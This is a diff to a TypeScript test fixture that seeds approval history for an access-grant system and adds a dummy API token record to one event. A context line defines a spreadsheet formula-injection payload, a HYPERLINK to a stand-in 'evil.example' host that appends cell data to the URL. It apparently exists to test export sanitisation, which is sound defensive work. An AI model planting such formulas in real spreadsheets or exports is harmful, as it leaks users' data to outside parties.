@@ -65,6 +65,15 @@ function namedHolder(principal: string, assignmentName: string, over: Partial<Ho
   return holder(principal, guid, { displayName: principal.split('@')[0], assignmentName, ...over });
 }
 
+/** How the seeded approval was verified: a token for the API. */
+export const LIDIA_TOKEN = {
+  kind: 'api',
+  oid: '5e7a1b2c-0000-4000-8000-00000000a11d',
+  tid: 'c0ffee00-0000-4000-8000-000000000001',
+  issuer: 'https://login.microsoftonline.com/c0ffee00-0000-4000-8000-000000000001/v2.0',
+  appId: '0a0b0c0d-0000-4000-8000-0000000000ab',
+} as const;
+
 export const T = (hhmm: string): string => `2026-03-01T${hhmm}:00.000Z`;
 export const INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")';
 
@@ -122,7 +131,7 @@ export async function seedHistory(
       type: 'grant.approved',
       actor: 'lidiah@contoso.onmicrosoft.com',
       subject: 'g-1',
-      data: { grant: { ...grant, status: 'approved' } },
+      data: { grant: { ...grant, status: 'approved' }, channel: LIDIA_TOKEN },
     },
     {
       at: T('09:10'),
